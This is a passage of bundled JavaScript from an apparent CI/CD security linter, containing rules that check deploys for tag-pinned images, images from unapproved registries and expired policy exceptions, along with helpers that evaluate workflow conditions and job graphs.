    return { digests: new Set(digests), isOpen: open.length > 0, images, files, input, step: id ?? 'gate' };
}
function neededJobs(job, { jobs }) {
    const found = new Set();
    const open = [job];
    for (let next = open.shift(); next !== undefined; next = open.shift()) {
        for (const { value } of next.needs) {
            const needed = jobs.find(({ id }) => id.value.toLowerCase() === value.toLowerCase());
            if (needed === undefined || found.has(needed))
                continue;
            found.add(needed);
            open.push(needed);
        }
    }
    return [...found];
}

;// CONCATENATED MODULE: ./build/src/data/deployed-paths.js
const deployedPaths = {
    asOf: '2026-09-01',
    rows: [{ action: 'pypa/gh-action-pypi-publish', input: 'packages-dir', path: 'dist' }],
};

;// CONCATENATED MODULE: ./build/src/rules/support/workspace-paths.js








function verifiedPathIn(step, file, patterns) {
    return workspace_paths_pathsOf(step, file).find(({ path }) => patterns.some((pattern) => workspace_paths_isMeant(path, pattern)));
}
function workspace_paths_pathsOf(step, file) {
    if (step.kind === 'run') {
        return (0,run_commands/* runCommands */.a)(step.run).flatMap((command) => (0,command_purpose/* purposeOfCommand */.ZU)(command) === undefined
            ? []
            : command.words
                .slice(1)
                .map(({ text, span }) => ({ path: text.replace(/^-{1,2}[\w-]{1,60}=/, ''), span: (0,span_in_file/* spanInFile */.U)(file, step.run, span) })));
    }
    return [...inputPaths(step.with), ...standardPaths(step)];
}
function inputPaths(inputs) {
    return inputs.flatMap(({ value }) => {
        if (value.kind !== 'scalar')
            return [];
        const span = value.alias ?? value.span;
        return value.value.split(/[\n,]/).map((path) => ({ path: path.trim(), span }));
    });
}
function standardPaths(step) {
    const { target, scalar } = step.uses;
    if (target.kind !== 'repository')
        return [];
    const slug = (0,slug_of/* slugOf */.t)(target.owner, target.name, target.path);
    const rows = deployedPaths.rows.filter(({ action, input }) => action === slug && (0,workflow_callers/* valueOf */.RP)(step.with, input) === undefined);
    return rows.map(({ path }) => ({ path, span: scalar.alias ?? scalar.span }));
}
function workspace_paths_isMeant(path, pattern) {
    if (path === '' || path.length > glob/* textLimit */.$l || pattern.length > glob/* patternLimit */.An || /[${}`]/.test(path))
        return false;
    const [place, wanted] = [(0,local_path/* localPath */.$)(path), (0,local_path/* localPath */.$)(pattern)];
    if (place === '' || place === '..')
        return false;
    return place === wanted || (0,glob/* matchesGlob */.kt)(wanted, place) || wanted.startsWith(`${place.replace(/\/\*{1,2}$/, '')}/`);
}

;// CONCATENATED MODULE: ./build/src/rules/artifact/mutable-reference.js











const maxRelated = 20;
const head = 'on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n';
const digest = '5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef';
/* harmony default export */ const mutable_reference = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'artifact/mutable-reference',
        title: 'A deploy takes its images by digest, and what the gate verified',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { posture: 'audit', merge: 'audit', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI3:2025' },
            { framework: 'NIST-CSF', id: 'PR.PS-05' },
            { framework: 'NIST-CSF', id: 'PR.DS-01' },
            { framework: 'NIST-800-207', id: 'T5' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-9' },
            { framework: 'SLSA', id: 'Build L2' },
            { framework: 'SSDF', id: 'PS.2.1' },
        ],
        rationale: 'A tag is a name that whoever can push to the registry may move at any time, also between the moment at which a gate verified the image and the one at which a cluster pulls it, and again at each restart. A digest is the image. The same holds for files: a path of the workspace can be written again by any later step, the copy that the gate staged cannot. Verifying one thing and deploying another by the same name is verifying nothing.',
        remediation: 'Deploy `name@sha256:<digest>`: builds give it as an output (`docker/build-push-action`: `steps.build.outputs.digest`), `crane digest name:tag` shows it for an image that exists. Give the gate the same reference, as `oci://name@sha256:<digest>`; for files, deploy what `steps.<gate>.outputs.staged-artifacts` names.',
        messages: {
            tag: '`{by}` deploys `{image}` by a tag, and whoever can push to its registry can move that to another image. Name the digest: `@sha256:...`',
            none: '`{by}` deploys `{image}` without a tag or digest, so whatever `latest` is at that moment. Name the digest: `@sha256:...`',
            unverified: 'The gate verifies `{verified}`, and `{by}` deploys `{image}` by a name that can be moved afterwards. Name the digest that was verified',
            other: '`{by}` deploys `{image}`, which is not among what the gate before it verifies (`{verified}`)',
            path: 'The gate verifies `{verified}`, and `{by}` takes `{image}` from the workspace, where a later step can have written it again. Take what `steps.{gate}.outputs.staged-artifacts` names',
        },
        examples: [
            {
                title: 'A tag and a name without any in commands',
                files: {
                    '.github/workflows/deploy.yml': `${head}      - run: kubectl set image deployment/app app=ghcr.io/acme/app:\${{ github.sha }}\n      - run: gcloud run deploy app --image eu-docker.pkg.dev/acme/apps/app\n`,
                },
                expect: [
                    { message: 'tag', path: '.github/workflows/deploy.yml', line: 8 },
                    { message: 'none', path: '.github/workflows/deploy.yml', line: 9 },
                ],
            },
            {
                title: 'A manifest that a command applies',
                files: {
                    '.github/workflows/deploy.yml': `${head}      - run: kubectl apply -f k8s/app.yml\n`,
                    'k8s/app.yml': 'apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: ghcr.io/acme/app:v1\n',
                },
                expect: [{ message: 'tag', path: 'k8s/app.yml', line: 8 }],
            },
            {
                title: 'The gate verifies one image, and a tag is deployed',
                files: {
                    '.github/workflows/deploy.yml': `${head}      - uses: acme/interlock@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n        with:\n          artifacts: oci://ghcr.io/acme/app@sha256:${digest}\n      - run: flyctl deploy --image ghcr.io/acme/app:v1\n`,
                },
                expect: [{ message: 'unverified', path: '.github/workflows/deploy.yml', line: 11 }],
            },
            {
                title: 'The gate verifies files, and they are published from the workspace',
                files: {
                    '.github/workflows/release.yml': `${head}      - uses: acme/interlock@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n        with:\n          artifacts: dist/*.whl\n      - run: twine upload dist/*\n`,
                },
                expect: [{ message: 'path', path: '.github/workflows/release.yml', line: 11 }],
            },
            {
                title: 'The digest of the build, and the staged copy',
                files: {
                    '.github/workflows/deploy.yml': `${head}      - run: kubectl set image deployment/app app=ghcr.io/acme/app@\${{ needs.build.outputs.digest }}\n      - id: gate\n        uses: acme/interlock@8f4b7f84864484a7bf31766abe9204da3cbe65b3\n        with:\n          artifacts: dist/*.whl\n      - run: twine upload $FILES\n        env:\n          FILES: \${{ steps.gate.outputs.staged-artifacts }}\n`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['image'],
    },
    needs: ['workflows', 'actions', 'manifests', 'scene'],
    evaluate({ workflows, actions, manifests, scene }) {
        const test = gateTest(scene, [], actions.items);
        const uses = groupedUses(imageUses(workflows.items, actions.items, manifests.items));
        const purposes = new workflow_purposes/* Purposes */.e((0,local_actions/* localActions */.N)(actions.items));
        return [
            ...uses.flatMap(({ first, others }) => mutable_reference_judge(first, others, test)),
            ...workflows.items.flatMap((workflow) => workspaceTakes(workflow, purposes, test)),
        ];
    },
}));
const weight = { tag: 4, none: 3, invalid: 2, open: 1, digest: 0 };
function mutable_reference_judge(use, others, test) {
    if (!use.hasVersion)
        return [];
    const [pin = 'open'] = use.readings.map(pinOf).toSorted((a, b) => weight[b] - weight[a]);
    const { step, job, workflow, by } = use.deploy;
    const verified = verifiedBefore(step.step, job, workflow, test);
    const related = [
        ...(use.deployedAt === undefined ? [] : [{ location: use.deployedAt, message: `\`${by}\` deploys it here.` }]),
        ...others.slice(0, maxRelated).map(({ location }) => ({ location, message: 'Deployed here too.' })),
    ];
    const found = { image: use.written, by, location: use.location, related };
    switch (pin) {
        case 'tag':
        case 'none':
            return verified === undefined || verified.images.length === 0
                ? [violation(pin, found)]
                : [violation('unverified', { ...found, verified })];
        case 'digest':
            return verified !== undefined && isOther(use, verified) ? [violation('other', { ...found, verified })] : [];
        case 'invalid':
        case 'open':
            return [undecided(use, pin)];
    }
}
function violation(message, { image, by, location, related, verified }) {
    const shown = message === 'path' ? verified?.files : verified?.images;
    const data = { image, by, verified: (shown ?? []).join(', ').slice(0, 300), gate: verified?.step ?? '' };
    const severity = message === 'tag' || message === 'none' ? {} : { severity: 'high' };
    return { kind: 'violation', message, data, location, related, ...severity };
}
function isOther({ readings }, { digests, isOpen, images }) {
    if (isOpen || images.length === 0)
        return false;
    return readings.some((parts) => {
        const digest = writtenDigest(parts);
        return digest !== undefined && !digests.has(digest);
    });
}
function undecided({ written, location }, pin) {
    return (0,core_facts/* gap */.rQ)({
        item: written,
        cause: pin === 'open' ? 'unresolvable' : 'invalid',
        why: pin === 'open' ? 'only a run knows whether this image is named by digest' : 'this is no name of an image that a client takes',
        remedy: 'write it as `name@<digest>`, with the digest from the step or job that built it',
        location,
    });
}
function workspaceTakes(workflow, purposes, test) {
    return workflow.jobs.flatMap((job) => (job.kind === 'steps' ? takesOfJob(job, workflow, purposes, test) : []));
}
function takesOfJob(job, workflow, purposes, test) {
    const { file } = workflow;
    if (!/\bartifacts\b/i.test(file.text))
        return [];
    return [...(0,walk/* flatten */.Bq)(job.steps)].flatMap((step) => {
        if (step.kind === 'parallel' || step.kind === 'control' || takesStaged(step, file.text))
            return [];
        const verified = verifiedBefore(step, job, workflow, test);
        if (verified === undefined || verified.files.length === 0)
            return [];
        const [purpose] = purposes.ofStep(step, file).purposes;
        const taken = purpose === undefined ? undefined : verifiedPathIn(step, file, verified.files);
        if (purpose === undefined || taken === undefined)
            return [];
        const related = [{ location: (0,locate/* locate */.x5)(file, verified.input.span), message: 'Verified here.' }];
        return [violation('path', { image: taken.path.slice(0, 200), by: purpose.by, location: (0,locate/* locate */.x5)(file, taken.span), related, verified })];
    });
}
function takesStaged(step, text) {
    return /\boutputs\.(?:staged-artifacts|artifact-digests)\b/i.test(text.slice(step.span.start, step.span.end));
}

;// CONCATENATED MODULE: ./build/src/rules/support/approved-registry.js



function registryPattern(pattern) {
    const text = pattern.trim().toLowerCase();
    const [first = '', ...rest] = text.split('/');
    if (/[*?[\\]/.test(first) || (rest.length > 0 && isDomainLike(first)))
        return text.replace(/^index\.docker\.io\//, 'docker.io/');
    return rest.length === 0 ? `docker.io/library/${text}` : `docker.io/${text}`;
}
function approved_registry_approvalOf(parts, patterns) {
    const marked = markedImage(parts);
    if (!marked.includes('\0')) {
        const read = readImage(marked);
        if (read.state === 'refused')
            return { state: 'unknown', why: `it is no name of an image: ${read.why}` };
        const name = imageName(read.image);
        return patterns.some((pattern) => approved_registry_isMatch(pattern, name)) ? { state: 'approved' } : { state: 'refused', name };
    }
    const named = marked.includes('@') ? marked.slice(0, marked.indexOf('@')) : marked;
    const colon = tagColon(named);
    const name = colon === -1 ? named : named.slice(0, colon);
    if (!name.includes('\0'))
        return approved_registry_approvalOf([{ kind: 'text', text: name }], patterns);
    return ofPrefix(name.split('/'), patterns);
}
function ofPrefix(segments, patterns) {
    const [host = ''] = segments;
    const known = segments.slice(0, segments.findIndex((segment) => segment.includes('\0')));
    const unknown = { state: 'unknown', why: 'only a run knows its name' };
    if (known.length === 0 || !isDomainLike(host))
        return unknown;
    const probe = readImage([host, ...known.slice(1), 'x'].join('/'));
    if (probe.state === 'refused')
        return { state: 'unknown', why: `it is no name of an image: ${probe.why}` };
    const prefix = imageName(probe.image).split('/').slice(0, known.length).join('/');
    const isBelow = (pattern) => pattern.endsWith('/**') && covers(pattern.slice(0, -3), prefix);
    if (patterns.some(isBelow))
        return { state: 'approved' };
    const isHost = (pattern) => {
        const first = pattern.replace(/\/.*$/, '');
        return first === '**' || approved_registry_isMatch(first, probe.image.registry);
    };
    return patterns.some(isHost) ? unknown : { state: 'refused', name: `${prefix}/...` };
}
function covers(pattern, prefix) {
    const parts = prefix.split('/');
    return parts.some((_, index) => approved_registry_isMatch(pattern, parts.slice(0, index + 1).join('/')));
}
function approved_registry_isMatch(pattern, name) {
    return pattern.length <= glob/* patternLimit */.An && (0,glob/* matchesGlob */.kt)(pattern, name);
}

;// CONCATENATED MODULE: ./build/src/rules/artifact/unapproved-registry.js





const unapproved_registry_maxRelated = 20;
const unapproved_registry_head = 'on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n';
const registries = ['ghcr.io/acme/**', 'registry.example.com/**'];
const unapproved_registry_digest = 'sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef';
/* harmony default export */ const unapproved_registry = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'artifact/unapproved-registry',
        title: 'Images come from registries and repositories that the policy names',
        severity: 'high',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'deny', strict: 'deny' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'deny' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI3:2025' },
            { framework: 'NIST-CSF', id: 'PR.PS-05' },
            { framework: 'NIST-CSF', id: 'GV.SC-07' },
            { framework: 'NIST-800-207', id: 'T5' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-9' },
            { framework: 'SSDF', id: 'PS.2.1' },
        ],
        rationale: 'Names of images are read from left to right, and look alike: `ghcr.io/acme-evil/app`, `ghcr.io.example.net/acme/app` and `acme/app`, which is Docker Hub, are not `ghcr.io/acme/app`. Anybody can open an account at a public registry and push under a name that a hurried reader takes for yours. A list of registries and repositories makes that comparison exact, on the name that clients make of what is written.',
        remediation: 'Deploy the image from a registry that the policy approves, or add `{name}` to the option `registries` of this rule.',
        messages: {
            image: '`{by}` deploys `{image}`, and `{name}` is none of the registries and repositories that the policy approves',
            subject: '`{image}` is named for this deploy, and `{name}` is none of the registries and repositories that the policy approves',
        },
        examples: [
            {
                title: 'A look-alike of the own registry, and a name that means Docker Hub',
                files: {
                    '.github/workflows/deploy.yml': `${unapproved_registry_head}      - run: kubectl set image deployment/app app=ghcr.io/acme-evil/app@${unapproved_registry_digest}\n      - run: flyctl deploy --image acme/app@${unapproved_registry_digest}\n`,
                },
                options: { registries },
                expect: [
                    { message: 'image', path: '.github/workflows/deploy.yml', line: 8 },
                    { message: 'image', path: '.github/workflows/deploy.yml', line: 9 },
                ],
            },
            {
                title: 'A subject from elsewhere',
                files: {},
                facts: {
                    subjects: {
                        items: [{ name: `oci://docker.io/acme/app@${unapproved_registry_digest}`, kind: 'image', digests: {}, stagedPath: undefined }],
                        gaps: [],
                    },
                },
                options: { registries },
                expect: [{ message: 'subject' }],
            },
            {
                title: 'Images from the list',
                files: {
                    '.github/workflows/deploy.yml': `${unapproved_registry_head}      - run: kubectl set image deployment/app app=ghcr.io/acme/app@${unapproved_registry_digest} side=registry.example.com/team/side:\${{ github.sha }}\n`,
                },
                options: { registries },
                expect: [],
            },
        ],
        options: {
            registries: {
                type: 'strings',
                default: [],
                description: 'Registries and repositories from which images may come, as `ghcr.io/acme/**` or `registry.example.com:5000/team/app`: globs for each part between `/`, compared with the whole name. A name without a registry is one of `docker.io`, of one word one of `docker.io/library`. A port is part of the registry. Without it the rule is not applicable.',
            },
        },
        key: ['name'],
    },
    needs: [],
    wants: ['workflows', 'actions', 'manifests', 'scene', 'subjects'],
    evaluate({ workflows, actions, manifests, scene, subjects }, options) {
        if (options.registries.length === 0)
            return (0,finding/* notApplicable */.hH)('not configured: the policy names no `registries`');
        const patterns = options.registries.map(registryPattern);
        const [jobs, steps, files, named] = [
            manyOf('workflows', workflows),
            manyOf('actions', actions),
            manyOf('manifests', manifests),
            manyOf('subjects', subjects),
        ];
        const repository = scene.state === 'known' ? repositoryOf(scene.value) : undefined;
        const uses = groupedUses(imageUses(jobs.items, steps.items, files.items).filter(({ hasName }) => hasName));
        return [
            ...[jobs, steps, files, named].flatMap(({ gaps }) => gaps),
            ...named.items.flatMap((subject) => judgeSubject(subject, patterns)),
            ...uses.flatMap(({ first, others }) => unapproved_registry_judge(first, others, patterns, repository)),
        ];
    },
}));
function manyOf(key, fact) {
    return fact.state === 'known' ? fact.value : { items: [], gaps: [(0,core_facts/* gapOfUnknown */.uI)(key, fact)] };
}
function repositoryOf({ repository }) {
    if (repository === undefined)
        return undefined;
    const name = repository.toLowerCase();
    const owner = name.replace(/\/.*$/, '');
    return new Map([
        ['github.repository', name],
        ['github.repository_owner', owner],
        ['github_repository', name],
        ['github_repository_owner', owner],
    ]);
}
function unapproved_registry_violation(message, data, location, related) {
    return { kind: 'violation', message, data: { ...data }, location, related };
}
function judgeSubject({ name, kind }, patterns) {
    if (kind !== 'image')
        return [];
    const approval = approved_registry_approvalOf([{ kind: 'text', text: name }], patterns);
    const location = { object: 'artifact', name };
    if (approval.state === 'unknown')
        return [(0,core_facts/* gap */.rQ)({ item: name, cause: 'invalid', why: approval.why })];
    if (approval.state === 'approved')
        return [];
    return [unapproved_registry_violation('subject', { image: name, name: approval.name, by: '' }, location, [])];
}
function unapproved_registry_judge(use, others, patterns, repository) {
    const approvals = use.readings.map((parts) => approved_registry_approvalOf(filled(parts, repository), patterns));
    const refused = approvals.find((one) => one.state === 'refused');
    if (refused === undefined)
        return approvals
            .filter((one) => one.state === 'unknown')
            .slice(0, 1)
            .map((one) => unapproved_registry_undecided(use, one));
    const { by } = use.deploy;
    const related = [
        ...(use.deployedAt === undefined ? [] : [{ location: use.deployedAt, message: `\`${by}\` deploys it here.` }]),
        ...others.slice(0, unapproved_registry_maxRelated).map(({ location }) => ({ location, message: 'Deployed here too.' })),
    ];
    return [unapproved_registry_violation('image', { image: use.written, name: refused.name, by }, use.location, related)];
}
function filled(parts, repository) {
    return parts.map((part) => {
        const text = part.kind === 'hole' ? repository?.get(part.name.toLowerCase()) : undefined;
        return text === undefined ? part : { kind: 'text', text };
    });
}
function unapproved_registry_undecided({ written, location }, { why }) {
    return (0,core_facts/* gap */.rQ)({
        item: written,
        cause: 'unresolvable',
        why: `whether its registry is approved could not be decided: ${why}`,
        remedy: 'write the registry and the name where the file shows them',
        location,
    });
}

;// CONCATENATED MODULE: ./build/src/rules/policy/exception-expired.js


const exception_expired_maxRelated = 20;
/* harmony default export */ const exception_expired = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'policy/exception-expired',
        title: 'No finding waits behind an exception that has run out',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'merge', 'deploy'],
        presets: { recommended: 'warn', strict: 'warn' },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'NIST-CSF', id: 'ID.RA-07' },
            { framework: 'NIST-CSF', id: 'GV.PO-02' },
            { framework: 'NIST-800-207', id: 'T7' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-1' },
        ],
        rationale: 'An exception ends on its date so that somebody decides again. The finding that it covered counts from then on; this rule says why a check that was green yesterday is not today, and whom to ask.',
        remediation: 'Put right what the exception `{id}` covered and remove it, or have it approved again with a new `expires` and the reason why it is still needed.',
        messages: {
            expired: 'Exception `{id}` ended on {expires}, and {count} of `{rule}` would have been covered by it. Put that right, or have the exception approved again',
        },
        examples: [
            {
                title: 'An exception ended while what it covered is still there',
                files: {},
                facts: {
                    policy: {
                        exceptions: [
                            {
                                id: 'legacy-pin',
                                rule: 'workflow/unpinned-action',
                                where: { path: '.github/workflows/legacy.yml', uses: 'acme/tool@v1' },
                                reason: 'the new version is being tested',
                                approvedBy: '@alice',
                                expires: '2026-01-31',
                                isFromOrganisation: false,
                                place: { path: '.github/interlock.yml', line: 9, column: 5 },
                            },
                        ],
                    },
                    outcomes: [
                        {
                            meta: { id: 'workflow/unpinned-action' },
                            kind: 'violation',
                            reason: '',
                            findings: [
                                {
                                    location: { path: '.github/workflows/legacy.yml', start: { line: 7, column: 15 }, end: { line: 7, column: 27 } },
                                    subject: { uses: 'acme/tool@v1' },
                                    message: 'acme/tool@v1 is named by a tag',
                                },
                            ],
                            gaps: [],
                        },
                    ],
                },
                expect: [{ message: 'expired', path: '.github/interlock.yml', line: 9 }],
            },
            {
                title: 'An exception ended, and nothing needs it any more',
                files: {},
                facts: {
                    policy: {
                        exceptions: [
                            {
                                id: 'legacy-pin',
                                rule: 'workflow/unpinned-action',
                                where: { path: '.github/workflows/legacy.yml', uses: 'acme/tool@v1' },
                                reason: 'the new version is being tested',
                                approvedBy: '@alice',
                                expires: '2026-01-31',
                                isFromOrganisation: false,
                                place: undefined,
                            },
                        ],
                    },
                    outcomes: [],
                },
                expect: [],
            },
        ],
        options: {},
        key: ['id'],
        locked: true,
    },
    needs: ['outcomes', 'policy', 'scene'],
    evaluate({ outcomes, policy, scene }) {
        return expiredOf(outcomes, policy.exceptions, scene.now).map(({ exception, first, others }) => {
            const findings = [first, ...others];
            return {
                kind: 'violation',
                message: 'expired',
                data: {
                    id: exception.id,
                    expires: exception.expires,
                    rule: exception.rule,
                    count: findings.length === 1 ? '1 finding' : `${findings.length} findings`,
                },
                location: locationOf(exception),
                related: findings.slice(0, exception_expired_maxRelated).map(({ location, message }) => ({ location, message })),
            };
        });
    },
}));
function expiredOf(outcomes, exceptions, now) {
    const byException = new Map();
    for (const { meta, findings } of outcomes) {
        for (const found of findings) {
            const cover = coverOf(exceptions, meta.id, found, now);
            if (cover?.state !== 'expired')
                continue;
            const known = byException.get(cover.exception);
            if (known === undefined)
                byException.set(cover.exception, { first: found, others: [] });
            else
                known.others.push(found);
        }
    }
    return [...byException].map(([exception, found]) => ({ exception, ...found }));
}
function locationOf({ id, place }) {
    if (place === undefined)
        return { object: 'exception', name: id };
    const at = { line: place.line, column: place.column };
    return { path: place.path, start: at, end: at };
}

// EXTERNAL MODULE: ./build/src/workflow/condition-of.js
var condition_of = __webpack_require__(43270);
// EXTERNAL MODULE: ./build/src/workflow/visit-expression.js
var visit_expression = __webpack_require__(99219);
;// CONCATENATED MODULE: ./build/src/workflow/condition-outcome.js


function conditionHolds(condition, supposition) {
    const value = truthOf(evaluate(condition, supposition));
    if (namesStatus(condition))
        return value;
    if (supposition.success === false || value === false)
        return false;
    return supposition.success === undefined ? undefined : value;
}
function namesStatus(condition) {
    let isFound = false;
    (0,visit_expression/* visitExpression */.w)(condition, (node) => {
        if (node.kind === 'call' && /^(?:always|success|failure|cancelled)$/i.test(node.name))
            isFound = true;
    });
    return isFound;
}
function truthOf(value) {
    return value === undefined ? undefined : value !== false && value !== null && value !== '' && value !== 0 && !Number.isNaN(value);
}
function evaluate(node, supposition) {
    switch (node.kind) {
        case 'literal':
            return node.value;
        case 'context':
        case 'property':
        case 'index':
        case 'filter': {
            const path = (0,context_path/* contextPath */.V)(node);
            return path === undefined ? undefined : supposition.valueOf(path);
        }
        case 'call':
            return called(node.name.toLowerCase(), node.arguments, supposition);
        case 'not': {
            const truth = truthOf(evaluate(node.operand, supposition));
            return truth === undefined ? undefined : !truth;
        }
        case 'binary':
            return binary(node.operator, evaluate(node.left, supposition), evaluate(node.right, supposition));
        case 'error':
            return undefined;
    }
}
function binary(operator, left, right) {
    switch (operator) {
        case '&&':
            return condition_outcome_joined(left, right, false);
        case '||':
            return condition_outcome_joined(left, right, true);
        case '==':
        case '!=': {
            if (left === undefined || right === undefined)
                return undefined;
            return isEqual(left, right) === (operator === '==');
        }
        default:
            return undefined;
    }
}
function condition_outcome_joined(left, right, decisive) {
    const [truth, other] = [truthOf(left), truthOf(right)];
    if (truth === decisive)
        return left;
    if (truth === undefined)
        return other === decisive ? decisive : undefined;
    return right;
}
function isEqual(left, right) {
    if (typeof left === 'string' && typeof right === 'string')
        return left.toLowerCase() === right.toLowerCase();
    return typeof left === typeof right ? left === right : Number(left) === Number(right);
}
function called(name, parts, supposition) {
    switch (name) {
        case 'always':
            return true;
        case 'success':
            return parts.length === 0 ? supposition.success : undefined;
        case 'failure':
            return parts.length === 0 ? supposition.failure : undefined;
        case 'cancelled':
            return supposition.cancelled;
        case 'contains':
            return contains(parts, supposition);
        case 'format':
            return parts.some((part) => part.kind === 'literal' && part.value !== '' && !/^\{\d+\}$/.test(String(part.value))) ? true : undefined;
        default:
            return undefined;
    }
}
function contains([where, what], supposition) {
    if (where === undefined || what?.kind !== 'literal')
        return undefined;
    const list = where.kind === 'call' && where.name.toLowerCase() === 'join' ? where.arguments[0] : where;
    const path = list === undefined ? undefined : (0,context_path/* contextPath */.V)(list);
    if (path === undefined || path.join('.').toLowerCase() !== 'needs.*.result')
        return undefined;
    const wanted = String(what.value).toLowerCase();
    if (supposition.results.includes(wanted))
        return true;
    return supposition.results.includes(undefined) ? undefined : false;
}

;// CONCATENATED MODULE: ./build/src/rules/support/gate-in-workflow.js




const maxGates = 64;
class GateIndex {
    #workflows;
    #test;
    #known = new Map();
    constructor(workflows, test) {
        this.#workflows = workflows;
        this.#test = test;
    }
    gatesOf(workflow) {
        const known = this.#known.get(workflow);
        if (known !== undefined)
            return known;
        this.#known.set(workflow, []);
        const gates = workflow.jobs.flatMap((job) => this.#gateIn(job, workflow)).slice(0, maxGates);
        this.#known.set(workflow, gates);
        return gates;
    }
    #gateIn(job, { file }) {
        if (job.kind === 'steps')
            return gateInSteps(job, file, this.#test);
        if (isGateCall(job.uses.target, file.root, this.#test)) {
            return [{ job, file, step: undefined, isWhole: true, flaws: [...reportFlaw(job.with, file), ...jobFlaws(job, file)] }];
        }
        const callee = gate_use_calleeOf(job.uses.target, file.root, this.#workflows);
        const [inner] = callee === undefined ? [] : this.gatesOf(callee);
        return inner === undefined ? [] : [{ job, file, step: undefined, isWhole: false, flaws: [...inner.flaws, ...jobFlaws(job, file)] }];
    }
}
function gateInSteps(job, file, test) {
    const steps = [...(0,walk/* flatten */.Bq)(job.steps)];
    const step = steps.find((one) => isGateStep(one, file.root, test));
    if (step === undefined)
        return [];
    const before = steps.slice(0, steps.indexOf(step)).filter((one) => one.kind !== 'parallel' || !one.steps.includes(step));
    const flaws = [
        ...stepFlaws(step, job, file),
        ...before
            .filter(isOwnCode)
            .slice(0, 1)
            .map((one) => codeBefore(one, file)),
        ...jobFlaws(job, file),
    ];
    return [{ job, file, step, isWhole: false, flaws }];
}
function stepFlaws(step, job, file) {
    const group = job.steps.find((one) => one.kind === 'parallel' && [...(0,walk/* flatten */.Bq)(one.steps)].includes(step));
    const conditions = [step, ...(group === undefined ? [] : [group])];
    const isApart = step.isBackground || group !== undefined;
    return [
        ...conditions.flatMap((one) => [...ignored(one.continueOnError, file), ...skippable(one.condition, 'conditional-step', file)]),
        ...reportFlaw(step.with, file),
        ...(isApart ? [{ kind: 'side-by-side', file, span: step.span, found: '' }] : []),
    ];
}
function jobFlaws(job, file) {
    const matrix = job.strategy?.matrix;
    return [
        ...(job.kind === 'steps' ? ignored(job.continueOnError, file) : []),
        ...skippable(job.condition, 'conditional-job', file),
        ...(matrix === undefined ? [] : [{ kind: 'matrix', file, span: matrix.alias ?? matrix.span, found: '' }]),
    ];
}
function ignored(value, file) {
    if (value === undefined || value.value.trim().toLowerCase() === 'false')
        return [];
    return [{ kind: 'continue-on-error', file, span: placeOf(value), found: value.value }];
}
function skippable(condition, kind, file) {
    if (condition === undefined)
        return [];
    const allWell = { success: true, failure: false, cancelled: false, valueOf: () => undefined, results: [] };
    if (conditionHolds((0,condition_of/* conditionOf */.r)(condition), allWell) === true)
        return [];
    return [{ kind, file, span: placeOf(condition), found: condition.value.trim() }];
}
function reportFlaw(inputs, file) {
    const mode = inputs.find(({ name }) => name.value.toLowerCase() === 'mode')?.value;
    if (mode?.kind !== 'scalar' || mode.value.trim().toLowerCase() !== 'report')
        return [];
    return [{ kind: 'report', file, span: placeOf(mode), found: mode.value }];
}
function isOwnCode(step) {
    if (step.kind === 'run')
        return true;
    if (step.kind !== 'uses')
        return false;
    const { target } = step.uses;
    return target.kind === 'local' || target.kind === 'self' || target.kind === 'docker';
}
function codeBefore(step, file) {
    const found = step.kind === 'uses' ? step.uses.scalar.value : (step.name?.value ?? step.id?.value ?? 'a run step');
    return { kind: 'code-before', file, span: step.span, found };
}
function placeOf(scalar) {
    return scalar.alias ?? scalar.span;
}

// EXTERNAL MODULE: ./build/src/workflow/jobs-behind.js
var jobs_behind = __webpack_require__(92964);
;// CONCATENATED MODULE: ./build/src/rules/support/job-graph.js


const job_graph_maxDepth = 200;
class RefusalChain {
    #refusal;
    #behind;
    #byId;
    #known = new Map();
    constructor(workflow, refusal, behind) {
        this.#refusal = refusal;
        this.#behind = behind;
        this.#byId = new Map(workflow.jobs.map((job) => [job.id.value.toLowerCase(), job]));
    }
    canRun(job) {
        return this.#canRun(job, 0);
    }
    #canRun(job, depth) {
        if (job === this.#refusal.job)
            return false;
        if (!this.#behind.has(job))
            return true;
        const known = this.#known.get(job);
        if (known !== undefined)
            return known;
        if (depth > job_graph_maxDepth)
            return true;
        this.#known.set(job, true);
        const canRun = this.#holds(job, depth);
        this.#known.set(job, canRun);
        return canRun;
    }
    #holds(job, depth) {
        if (job.condition === undefined)
            return false;
        const supposition = {
            success: false,
            failure: this.#refusal.result === 'failure' ? true : undefined,
            cancelled: false,
            valueOf: (path) => this.#valueOf(path, depth),
            results: job.needs.map((need) => this.#resultOf(need.value, depth)),
        };
        return conditionHolds((0,condition_of/* conditionOf */.r)(job.condition), supposition) !== false;
    }
    #resultOf(id, depth) {
        const job = this.#byId.get(id.toLowerCase());
        if (job === undefined)
            return undefined;
        if (job === this.#refusal.job)
            return this.#refusal.result;
        return this.#canRun(job, depth + 1) ? undefined : 'skipped';
    }
    #valueOf([context, id = '', part = '', name = ''], depth) {
        if (context !== 'needs')
            return undefined;
        if (part.toLowerCase() === 'result')
            return this.#resultOf(id, depth);
